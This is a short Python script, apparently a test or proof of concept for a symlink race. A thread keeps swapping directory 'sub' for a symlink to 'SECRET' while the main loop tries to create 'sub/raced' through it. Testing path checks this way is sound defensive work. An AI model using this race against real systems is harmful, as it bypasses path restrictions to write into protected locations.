import os, threading, time
done = False


def swap():
    while not done:
        try:
            os.rename('sub', 'sub-real')
            os.symlink('SECRET', 'sub')
            os.unlink('sub')
            os.rename('sub-real', 'sub')
        except OSError:
            pass


thread = threading.Thread(target=swap)
thread.start()
end = time.time() + 1.5
while time.time() < end:
    try:
        open('sub/raced', 'w').close()
    except OSError:
        pass
done = True
thread.join()
